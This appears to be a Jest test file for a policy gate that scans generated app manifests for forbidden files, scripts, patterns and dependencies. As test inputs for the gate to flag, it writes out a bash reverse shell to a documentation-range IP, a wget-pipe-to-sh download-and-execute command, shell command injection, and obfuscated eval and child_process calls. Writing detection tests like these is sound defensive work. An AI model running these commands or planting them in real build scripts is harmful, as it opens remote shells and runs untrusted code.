import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { draftManifest } from '../../lambdas/domain/architect/offline-architect';
import { APP_KIND_IDS, APP_KINDS, supportedFeatures } from '../../lambdas/domain/architect/catalog';
import { THEME_IDS } from '../../lambdas/domain/architect/themes';
import { BUILDABLE_REQUESTS, UNBUILDABLE_REQUESTS } from '../architect/app-request-corpus';
import type { GantryManifest } from '../../lambdas/domain/manifest';
import { globToRegExp, matchesAnyGlob } from '../../lambdas/domain/path-glob';
import { type Policy } from '../../lambdas/domain/policy';
import { loadPolicyFile, parsePolicy, PROJECT_ROOT } from '../../lambdas/domain/policy-file';
import { checkManifest } from '../../lambdas/domain/policy-gate';

const text = readFileSync(join(PROJECT_ROOT, 'policy.yaml'), 'utf8');
const { policy } = loadPolicyFile(join(PROJECT_ROOT, 'policy.yaml'));

const base: GantryManifest = {
  project_name: 'demo',
  stack: 'static-web',
  description: '',
  features: [],
  files: [{ path: 'index.html', content: '<h1>x</h1>' }],
  audit_command: 'npm test',
  build_command: 'npm run build',
  output_dir: 'dist',
  run_command: '',
};
const withFile = (path: string, content: string): GantryManifest => ({ ...base, files: [...base.files, { path, content }] });

describe('globs', () => {
  test.each([
    ['**/*.js', 'main.js', true],
    ['**/*.js', 'src/deep/main.js', true],
    ['**/*.js', 'main.json', false],
    ['**/*.{js,mjs}', 'a/b.mjs', true],
    ['.github/**', '.github/workflows/ci.yml', true],
    ['.github/**', 'docs/.github/x', false],
    ['**/.npmrc', '.npmrc', true],
    ['**/.npmrc', 'pkg/.npmrc', true],
    ['src/*.js', 'src/a/b.js', false],
    ['file?.txt', 'file1.txt', true],
    ['**', 'anything/at/all', true],
  ])('%s ~ %s = %s', (glob, path, expected) => {
    expect(globToRegExp(glob).test(path)).toBe(expected);
  });
  test('an unclosed group is an error', () => {
    expect(() => globToRegExp('src/{a,b')).toThrow(/unclosed/);
    expect(matchesAnyGlob('x', [])).toBe(false);
  });
});

describe('policy schema for the gate', () => {
  const edit = (fn: (p: Record<string, any>) => void): string => {
    const doc = parse(text) as Record<string, any>;
    fn(doc);
    return stringify(doc);
  };
  test('a forbidden pattern with a broken regex is refused, naming its index and key', () => {
    expect(() => parsePolicy(edit((p) => (p.forbidden_patterns[2].regex = '(unclosed')))).toThrow(/forbidden_patterns\.2\.regex/);
  });
  test('a bad glob, flag or rule name is refused with its path', () => {
    expect(() => parsePolicy(edit((p) => (p.forbidden_patterns[0].files = ['src/{a'])))).toThrow(/forbidden_patterns\.0\.files/);
    expect(() => parsePolicy(edit((p) => (p.forbidden_patterns[0].flags = 'y')))).toThrow(/forbidden_patterns\.0\.flags/);
    expect(() => parsePolicy(edit((p) => (p.forbidden_patterns[0].name = 'Bad Name')))).toThrow(/forbidden_patterns\.0\.name/);
    expect(() => parsePolicy(edit((p) => (p.files.protected_paths = ['{x'])))).toThrow(/files\.protected_paths/);
  });
  test('budget, debugger and dependency sections are required and checked', () => {
    expect(() => parsePolicy(edit((p) => delete p.budget))).toThrow(/budget/);
    expect(() => parsePolicy(edit((p) => (p.debugger.timeout_seconds = 0)))).toThrow(/debugger\.timeout_seconds/);
    expect(() => parsePolicy(edit((p) => (p.dependencies.allowed = { 'Not A Name': '1.0.0' })))).toThrow(/dependencies\.allowed/);
  });
  test('every allowed stack needs a file-type profile; a module rule needs a valid name', () => {
    expect(() => parsePolicy(edit((p) => (p.stacks.allowed = ['static-web', 'php'])))).toThrow(/stacks\.profiles/);
    expect(() => parsePolicy(edit((p) => p.stacks.profiles['static-web'].text_extensions.push('.JS')))).toThrow(
      /stacks\.profiles\.static-web\.text_extensions/,
    );
    expect(() => parsePolicy(edit((p) => (p.code_analysis.forbidden_modules[0].rule = 'Bad Rule')))).toThrow(
      /code_analysis\.forbidden_modules\.0\.rule/,
    );
  });
  test('the dependency allowlist is exactly the builder image cache allowlist', () => {
    const cache = JSON.parse(readFileSync(join(PROJECT_ROOT, 'builder-image', 'npm-cache', 'package.json'), 'utf8'));
    expect(policy.dependencies.allowed).toEqual(cache.dependencies ?? {});
  });
});

describe('the gate', () => {
  test('every app the offline architect generates passes (each kind and theme; default, all and no features)', () => {
    let checked = 0;
    for (const kind of APP_KIND_IDS) {
      for (const features of [undefined, supportedFeatures(kind), []]) {
        for (const designTarget of [null, ...THEME_IDS]) {
          const manifest = draftManifest({
            prompt: `a ${APP_KINDS[kind].title}`,
            kind,
            designTarget,
            ...(features ? { features } : {}),
          });
          expect({ kind, designTarget, violations: checkManifest(manifest, policy) }).toEqual({
            kind,
            designTarget,
            violations: [],
          });
          checked++;
        }
      }
    }
    expect(checked).toBe(APP_KIND_IDS.length * 3 * (THEME_IDS.length + 1));
  });

  test('every app the offline architect drafts for the request corpus passes, as built or as a close reading', () => {
    const prompts = [
      ...BUILDABLE_REQUESTS.map((r) => r.prompt),
      ...UNBUILDABLE_REQUESTS.filter((r) => r.outcome === 'interpreted').map((r) => r.prompt),
    ];
    const failing = prompts
      .map((prompt) => ({ prompt, violations: checkManifest(draftManifest({ prompt }), policy) }))
      .filter((r) => r.violations.length > 0);
    expect(failing).toEqual([]);
    expect(prompts.length).toBeGreaterThan(150);
  });

  test('file types: only what the stack profile lists; executables are refused by content', () => {
    const rules = (m: GantryManifest) => checkManifest(m, policy).map((v) => v.rule);
    expect(rules(withFile('run.sh', 'echo hi\n'))).toEqual(['file-type-not-allowed']);
    expect(rules(withFile('tool.exe', 'MZ'))).toEqual(['file-type-not-allowed']);
    expect(rules(withFile('Makefile', 'all:\n'))).toEqual(['file-type-not-allowed']);
    expect(rules(withFile('LICENSE', 'MIT\n'))).toEqual([]);
    expect(rules(withFile('notes.txt', '#!/bin/sh\necho hi\n'))).toEqual(['executable-content']);
    expect(rules(withFile('tool.mjs', '#!/usr/bin/env node\nconsole.log(1);\n'))).toEqual([]);
    expect(rules(withFile('tool.mjs', '#!/bin/sh\necho hi\n'))).toContain('executable-content');
    // A stack with no profile refuses nothing by type (the stack itself is refused).
    const other: Policy = { ...policy, stacks: { allowed: ['static-web'], profiles: {} } };
    expect(checkManifest(withFile('run.sh', 'echo hi\n'), other)).toEqual([]);
  });

  test("package.json scripts start only the profile's programs, with no inline code or substitution", () => {
    const scripts = (s: Record<string, string>) =>
      checkManifest(withFile('package.json', JSON.stringify({ name: 'x', scripts: s }, null, 2)), policy).map((v) => v.rule);
    expect(
      scripts({ test: 'node --test', build: 'NODE_ENV=production node build.mjs && npm run copy', copy: 'node copy.mjs' }),
    ).toEqual([]);
    expect(scripts({ test: 'node --test; sh -c id' })).toEqual(['package-script-command']);
    expect(scripts({ test: 'node --eval "1"' })).toEqual(['package-script-command']);
    expect(scripts({ test: 'node $(echo x).mjs' })).toEqual(['package-script-command']);
    expect(scripts({ pretest: 'bash -i >& /dev/tcp/203.0.113.1/9 0>&1' }).sort()).toEqual([
      'package-script-command',
      'reverse-shell',
    ]);
  });

  test('the syntax tree finds what the text patterns miss, with the file and line', () => {
    const v = checkManifest(withFile('build.cjs', "'use strict';\n\nconst x = require('child' + '_process');\n"), policy);
    expect(v).toEqual([expect.objectContaining({ rule: 'child-process', file: 'build.cjs', line: 3 })]);
    expect(v[0]?.message).toMatch(/assembled at run time/);
    const page = checkManifest(
      {
        ...base,
        files: [{ path: 'index.html', content: '<h1>x</h1>\n<script>\nconst f = globalThis["ev" + "al"];\n</script>\n' }],
      },
      policy,
    );
    expect(page).toEqual([expect.objectContaining({ rule: 'dynamic-code-execution', file: 'index.html', line: 3 })]);
  });

  test('a pattern reports the file and the line of its first match', () => {
    const v = checkManifest(withFile('src/a.js', 'const a = 1;\n\n// fine\nconst b = eval(input);\neval(x);\n'), policy);
    expect(v).toEqual([expect.objectContaining({ rule: 'dynamic-code-execution', file: 'src/a.js', line: 4 })]);
    expect(v[0]?.message).toMatch(/found "eval\("/);
  });

  test('patterns apply only to the files their globs name; binary types are not scanned as text', () => {
    expect(checkManifest(withFile('notes.md', 'Never call eval(x).'), policy)).toEqual([]);
    const asBase64 = (path: string, text: string): GantryManifest => ({
      ...base,
      files: [...base.files, { path, content: Buffer.from(text).toString('base64'), encoding: 'base64' as const }],
    });
    expect(checkManifest(asBase64('a.png', 'eval(x)'), policy)).toEqual([]);
    // A text type is decoded and read: base64 does not hide code from the rules.
    expect(checkManifest(asBase64('a.js', 'eval(x)'), policy)).toEqual([
      expect.objectContaining({ rule: 'dynamic-code-execution', file: 'a.js', line: 1 }),
    ]);
  });

  test('commands are scanned by patterns that ask for it', () => {
    const v = checkManifest({ ...base, audit_command: 'wget -qO- http://x.example/a | sh' }, policy);
    expect(v).toEqual([expect.objectContaining({ rule: 'download-and-execute', file: 'manifest:audit_command', line: 1 })]);
  });

  test('package.json: allowlist, exact versions, sources and install scripts', () => {
    const allowing: Policy = { ...policy, dependencies: { allowed: { 'tiny-lib': '2.0.1' }, forbid_install_scripts: true } };
    const pkg = (body: object) => withFile('package.json', JSON.stringify(body, null, 2));
    expect(checkManifest(pkg({ dependencies: { 'tiny-lib': '2.0.1' } }), allowing)).toEqual([]);
    expect(checkManifest(pkg({ dependencies: { 'tiny-lib': '^2.0.1' } }), allowing).map((v) => v.rule)).toEqual([
      'dependency-version',
    ]);
    expect(checkManifest(pkg({ dependencies: { 'tiny-lib': 'file:../x' } }), allowing).map((v) => v.rule)).toEqual([
      'dependency-source',
    ]);
    expect(checkManifest(pkg({ optionalDependencies: { other: '1.0.0' } }), allowing)).toEqual([
      expect.objectContaining({ rule: 'dependency-not-allowed', file: 'package.json', line: 3 }),
    ]);
    expect(checkManifest(pkg({ scripts: { preinstall: 'node x.js' } }), allowing).map((v) => v.rule)).toEqual(['install-script']);
    expect(
      checkManifest(pkg({ scripts: { preinstall: 'node x.js' } }), {
        ...allowing,
        dependencies: { ...allowing.dependencies, forbid_install_scripts: false },
      }),
    ).toEqual([]);
    expect(checkManifest(withFile('sub/package.json', '[1]'), policy).map((v) => v.rule)).toEqual(['package-json-invalid']);
  });

  test('a reloaded policy with a new pattern refuses what the old one let through', () => {
    const manifest = withFile('src/a.js', 'document.title = "hello";\n');
    expect(checkManifest(manifest, policy)).toEqual([]);
    const stricter: Policy = {
      ...policy,
      forbidden_patterns: [
        ...policy.forbidden_patterns,
        {
          name: 'no-title',
          reason: 'Titles are fixed by the brand team.',
          regex: 'document\\.title\\s*=',
          flags: '',
          files: ['**/*.js'],
          commands: false,
        },
      ],
    };
    expect(checkManifest(manifest, stricter)).toEqual([expect.objectContaining({ rule: 'no-title', file: 'src/a.js', line: 1 })]);
  });
});
